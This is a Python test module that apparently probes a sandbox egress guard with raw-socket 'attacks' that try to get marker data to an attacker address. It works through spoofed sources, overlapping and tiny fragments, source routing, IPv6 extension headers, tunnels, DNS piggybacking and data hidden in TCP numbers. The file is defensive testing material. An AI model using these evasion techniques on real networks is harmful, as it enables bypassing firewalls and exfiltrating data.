# SPDX-License-Identifier: MIT
"""Raw sockets, and what can be built with them: fragments, options, extension headers."""
import socket
import struct

import craft
from kernel import IP_HDRINCL, IPV6_FREEBIND, IPV6_HDRINCL
from table import BRIDGE, JOINED, ROUTED, at_uplink, attack, ends, packed, unseen

THEME = "raw sockets"
TAKEN = {1, 6, 17, 58}      # protocols that have attacks of their own


def header_socket(t, protocol=socket.IPPROTO_RAW):
    """One that takes whole packets."""
    s = t.socket(socket.SOCK_RAW, protocol)
    if t.family == 4:
        s.setsockopt(socket.IPPROTO_IP, IP_HDRINCL, 1)
    else:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)
    return s


def send(s, t, *packets, to=None):
    for p in packets:
        s.sendto(p, (to or t.to, 0))


def datagram(t, source=None, to=None, data=None):
    return craft.udp(source or t.source, to or t.to, 4444, t.port, data or t.marker)


@attack(THEME, "a UDP datagram from a raw socket", "sock_create", "raw-socket")
def raw_udp(t):
    send(t.socket(socket.SOCK_RAW, craft.UDP), t, datagram(t))


@attack(THEME, "a TCP SYN with data from a raw socket", "sock_create", "raw-socket")
def raw_tcp(t):
    send(t.socket(socket.SOCK_RAW, craft.TCP), t, craft.tcp(t.source, t.to, 4444, 443, craft.SYN, t.marker))


@attack(THEME, "an echo request from a raw ICMP socket", "sock_create", "raw-socket", families=(4,))
def raw_icmp(t):
    send(t.socket(socket.SOCK_RAW, craft.ICMP), t, craft.icmp(8, b"\0\1\0\1" + t.marker))


@attack(THEME, "a whole packet, header included", "sock_create", "raw-socket")
def raw_header(t):
    send(header_socket(t), t, craft.ip(t.source, t.to, craft.UDP, datagram(t)))


@attack(THEME, "a whole packet with a source that is not ours", "sock_create", "raw-socket")
def raw_spoofed(t):
    source = "203.0.113.10" if t.family == 4 else "2001:db8:10::10"
    send(header_socket(t), t, craft.ip(source, t.to, craft.UDP, datagram(t, source)))


@attack(THEME, "every other protocol number in turn", "sock_create", "raw-socket")
def raw_protocols(t):
    error = None
    for protocol in sorted(set(range(1, 255)) - TAKEN):
        try:
            send(t.socket(socket.SOCK_RAW, protocol), t, t.marker)
        except OSError as e:
            error = e
    if error:
        raise error


@attack(THEME, "a UDP-Lite socket", "sock_create", "raw-socket")
def udplite(t):
    t.socket(socket.SOCK_DGRAM, 136).sendto(t.marker, (t.to, t.port))


@attack(THEME, "an SCTP socket", "sock_create", "raw-socket")
def sctp(t):
    s = t.socket(socket.SOCK_STREAM, 132)
    s.connect((t.to, t.port))


@attack(THEME, "a DCCP socket", "sock_create", "raw-socket")
def dccp(t):
    t.socket(6, 33).connect((t.to, t.port))


# ---- a raw socket that is older than the guard: what is sent is judged packet by packet ----

OLD = "a raw socket older than the guard"


def old(what, reason, families=(4, 6), **more):
    """An attack whose function only makes the packets."""
    def enter(make):
        def act(t):
            s = header_socket(t)
            yield "load"
            send(s, t, *make(t))
        act.__name__, act.packets = make.__name__, make
        return attack(OLD, what, "cgroup", reason, families, early=True, **more)(act)
    return enter


@old("a UDP datagram", "raw-socket")
def old_udp(t):
    return [craft.ip(t.source, t.to, craft.UDP, datagram(t))]


@old("a UDP datagram with a source that is not ours", "raw-socket")
def old_spoofed(t):
    source = "198.51.100.20" if t.family == 4 else "2001:db8:20::20"
    return [craft.ip(source, t.to, craft.UDP, datagram(t, source))]


@old("every other protocol number in turn", "raw-socket")
def old_protocols(t):
    # Extension headers have attacks of their own.
    skip = TAKEN | ({0, 43, 44, 60, 51, 135, 139, 140} if t.family == 6 else set())
    return [craft.ip(t.source, t.to, n, t.marker * 4) for n in sorted(set(range(255)) - skip)]


@old("a DNS query for an allowed name, with data behind it", "raw-socket", families=(4,))
def old_dns(t):
    data = craft.query("api.openai.com", tail=t.marker)
    return [craft.ip(t.source, t.resolver, craft.UDP, craft.udp(t.source, t.resolver, 4444, 53, data))]


@old("the first fragment of a datagram", "fragment", container=unseen(JOINED))
def old_fragment_first(t):
    return fragments(t, [(0, True, datagram(t).ljust(64, b"."))])


@old("a later fragment alone", "fragment", container=unseen(JOINED))
def old_fragment_later(t):
    return fragments(t, [(64, False, t.marker * 2)])


@old("fragments that overlap, so that the second rewrites the first", "fragment", container=unseen(JOINED))
def old_fragment_overlapping(t):
    whole = datagram(t, data=t.marker * 6)
    return fragments(t, [(0, True, whole[:32]), (16, True, whole[16:48]), (48, False, whole[48:])])


@old("fragments of eight bytes, the header cut in two", "fragment", container=unseen(JOINED))
def old_fragment_tiny(t):
    whole = datagram(t, data=t.marker * 2)
    return fragments(t, [(i, i + 8 < len(whole), whole[i:i + 8]) for i in range(0, len(whole), 8)])


@old("a whole datagram in an only fragment (RFC 6946)", "fragment", families=(6,), container=unseen(JOINED))
def old_fragment_atomic(t):
    return fragments(t, [(0, False, datagram(t))])


def fragments(t, parts):
    if t.family == 4:
        return [craft.ip4(t.source, t.to, craft.UDP, data, offset, more) for offset, more, data in parts]
    return [craft.ip6(t.source, t.to, 44, craft.fragment6(craft.UDP, offset, more) + data)
            for offset, more, data in parts]


@old("a record-route option", "raw-socket", families=(4,))
def old_record_route(t):
    return [craft.ip4(t.source, t.to, craft.UDP, datagram(t), options=bytes([7, 15, 4]) + bytes(12) + b"\0")]


@old("an unknown option that holds the data", "raw-socket", families=(4,))
def old_option_data(t):
    return [craft.ip4(t.source, t.to, craft.UDP, datagram(t, data=b"x"), options=bytes([94, 10]) + t.marker + b"\0\0")]


@old("a loose source route by way of the attacker, to an allowed address", "source-route", families=(4,),
        container=unseen(ROUTED))
def old_source_route(t):
    data = craft.tcp(t.source, t.allowed, 4444, 443, craft.SYN, t.marker)
    return [craft.ip4(t.source, t.to, craft.TCP, data, options=bytes([131, 7, 4]) + packed(t.allowed) + b"\0")]


@old("a strict source route to the attacker by way of an allowed address", "source-route", families=(4,),
        container=unseen(ROUTED))
def old_strict_route(t):
    data = craft.tcp(t.source, t.to, 4444, 443, craft.SYN, t.marker)
    return [craft.ip4(t.source, t.allowed, craft.TCP, data, options=bytes([137, 7, 4]) + packed(t.to) + b"\0")]


@old("hop-by-hop options that hold the data", "raw-socket", families=(6,))
def old_hop_by_hop(t):
    return [craft.ip6(t.source, t.to, 0, craft.options6(craft.UDP, t.marker) + datagram(t))]


@old("destination options that hold the data", "raw-socket", families=(6,))
def old_destination_options(t):
    return [craft.ip6(t.source, t.to, 60, craft.options6(craft.UDP, t.marker) + datagram(t))]


@old("a routing header whose last hop is the attacker", "source-route", families=(6,))
def old_routing_header(t):
    segment = craft.tcp(t.source, t.allowed, 4444, 443, craft.SYN, t.marker)
    return [craft.ip6(t.source, t.allowed, 43, craft.routing6(craft.TCP, t.to, kind) + segment)
            for kind in (0, 2, 3, 4, 253)]


@old("ten nested extension headers before the datagram", "packet-malformed", families=(6,))
def old_nested_headers(t):
    data, following = datagram(t), craft.UDP
    for _ in range(10):
        data, following = craft.options6(following, t.marker) + data, 60
    return [craft.ip6(t.source, t.to, following, data)]


@old("a fragment header behind destination options", "fragment", families=(6,), container=unseen(JOINED))
def old_hidden_fragment(t):
    return [craft.ip6(t.source, t.to, 60, craft.options6(44) + craft.fragment6(craft.UDP) + datagram(t))]


@old("a reset from an inbound rule's port, with data", "raw-socket")
def old_reset_with_data(t):
    return [craft.ip(t.source, t.to, craft.TCP, craft.tcp(t.source, t.to, 22, t.port, craft.RST | craft.ACK, t.marker))]


@old("a reset with the data in its numbers", "raw-socket")
def old_reset_numbers(t):
    seq, ack = struct.unpack("!II", t.marker)
    return [craft.ip(t.source, t.to, craft.TCP,
                     craft.tcp(t.source, t.to, 22, t.port, craft.RST | craft.ACK, seq=seq, ack=ack))]


@old("the kernel's last acknowledgment imitated, with the data in its numbers", "raw-socket")
def old_ack_numbers(t):
    seq, ack = struct.unpack("!II", t.marker)
    return [craft.ip(t.source, t.to, craft.TCP, craft.tcp(t.source, t.to, 22, t.port, craft.ACK, seq=seq, ack=ack))]


@old("the same to an allowed address", "raw-socket")
def old_ack_allowed(t):
    seq, ack = struct.unpack("!II", t.marker)
    return [craft.ip(t.source, t.allowed, craft.TCP,
                     craft.tcp(t.source, t.allowed, 4444, 443, craft.ACK, seq=seq, ack=ack))]


@old("a segment as if of a connection to an allowed address", "raw-socket")
def old_forged_segment(t):
    segment = craft.tcp(t.source, t.allowed, 4444, 443, craft.PSH | craft.ACK, t.marker)
    return [craft.ip(t.source, t.allowed, craft.TCP, segment)]


@old("an IPv6 packet within an IPv4 one", "raw-socket", families=(4,))
def old_sit(t):
    inner = craft.ip6("fd00:1::10", "2001:db8:66::66", craft.UDP,
                      craft.udp("fd00:1::10", "2001:db8:66::66", 1, 2, t.marker))
    return [craft.ip4(t.source, t.to, 41, inner)]


@old("an IPv4 packet within an IPv6 one", "raw-socket", families=(6,))
def old_ip4_in_ip6(t):
    inner = craft.ip4("10.0.1.10", "203.0.113.66", craft.UDP, craft.udp("10.0.1.10", "203.0.113.66", 1, 2, t.marker))
    return [craft.ip6(t.source, t.to, 4, inner)]


@old("a packet within GRE", "raw-socket")
def old_gre(t):
    inner = craft.ip(t.source, t.to, craft.UDP, datagram(t))
    return [craft.ip(t.source, t.to, 47, struct.pack("!HH", 0, 0x0800 if t.family == 4 else 0x86DD) + inner)]


@old("an IPv4-mapped address on the wire", "packet-malformed", families=(6,))
def old_mapped(t):
    to = "::ffff:203.0.113.66"
    return [craft.ip6(t.source, to, craft.UDP, craft.udp(t.source, to, 1, t.port, t.marker))]


# ---- the raw socket that network managers need: ICMPv6, in the machine's first network namespace. No namespace of a
# lab is that one, so here it is older than the guard, which judges its packets just so. ----

MANAGER = "the ICMPv6 socket that is left to network managers"


@attack(MANAGER, "an echo request", "cgroup", "raw-socket", families=(6,), early=True)
def icmp6_echo(t):
    s = t.socket(socket.SOCK_RAW, craft.ICMP6)
    yield "load"
    send(s, t, craft.icmp6(t.source, t.to, 128, b"\0\1\0\1" + t.marker))


@attack(MANAGER, "a UDP datagram, header included", "cgroup", "raw-socket", families=(6,), early=True)
def icmp6_header(t):
    s = header_socket(t, craft.ICMP6)
    yield "load"
    send(s, t, craft.ip6(t.source, t.to, craft.UDP, datagram(t)))


@attack(MANAGER, "a fragment, header included", "cgroup", "fragment", families=(6,), early=True,
        container=unseen(JOINED))
def icmp6_fragment(t):
    s = header_socket(t, craft.ICMP6)
    yield "load"
    send(s, t, *fragments(t, [(0, True, datagram(t).ljust(64, b"."))]))


@attack(MANAGER, "a SYN-ACK from an inbound rule's port into the private network", "cgroup", "raw-socket",
        families=(6,), early=True)
def icmp6_segment(t):
    segment = craft.tcp(t.source, "fd00::10", 22, 4444, craft.SYN | craft.ACK, t.marker)
    s = header_socket(t, craft.ICMP6)
    yield "load"
    send(s, t, craft.ip6(t.source, "fd00::10", craft.TCP, segment), to="fd00::10")


@attack(MANAGER, "an error message that quotes the data", "cgroup", "raw-socket", families=(6,), early=True)
def icmp6_error(t):
    s = t.socket(socket.SOCK_RAW, craft.ICMP6)
    yield "load"
    send(s, t, craft.icmp6(t.source, t.to, 1, bytes(4) + t.marker * 4))


@attack(MANAGER, "a neighbour solicitation for the data, sent to the attacker", "cgroup", "raw-socket", families=(6,),
        early=True)
def icmp6_solicitation(t):
    s = t.socket(socket.SOCK_RAW, craft.ICMP6)
    yield "load"
    solicit(t, s, t.source, t.to)


@attack(MANAGER, "the same as from a neighbour of the attacker", "cgroup", "raw-socket", families=(6,), early=True)
def icmp6_solicitation_spoofed(t):
    source = t.to.rsplit(":", 1)[0] + ":1"
    message = craft.icmp6(source, t.to, 135, bytes(4) + t.marker * 2)
    s = header_socket(t, craft.ICMP6)
    yield "load"
    send(s, t, craft.ip6(source, t.to, craft.ICMP6, message, hops=255))


@attack(MANAGER, "the same from a socket that is bound to an address we do not have", "cgroup", "raw-socket",
        families=(6,), early=True)
def icmp6_solicitation_bound(t):
    source = t.to.rsplit(":", 1)[0] + ":2"
    s = t.socket(socket.SOCK_RAW, craft.ICMP6)
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    s.bind((source, 0))
    yield "load"
    solicit(t, s, source, t.to)


@attack(MANAGER, "an advertisement of the data, as from a neighbour of the attacker", "cgroup", "raw-socket",
        families=(6,), early=True)
def icmp6_advertisement_spoofed(t):
    source = t.to.rsplit(":", 1)[0] + ":3"
    message = craft.icmp6(source, t.to, 136, b"\x60\0\0\0" + t.marker * 2)
    s = header_socket(t, craft.ICMP6)
    yield "load"
    send(s, t, craft.ip6(source, t.to, craft.ICMP6, message, hops=255))


@attack(MANAGER, "a neighbour solicitation for the data, to all neighbours", "", "", families=(6,), early=True,
        leaves="rule 2: 16 bytes that any neighbour hears, and that no router passes on", container=ends(BRIDGE))
def icmp6_solicitation_link(t):
    s = t.socket(socket.SOCK_RAW, craft.ICMP6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))
    yield "load"
    solicit(t, s, t.source, "ff02::1")


def solicit(t, s, source, to):
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    send(s, t, craft.icmp6(source, to, 135, bytes(4) + t.marker * 2), to=to)
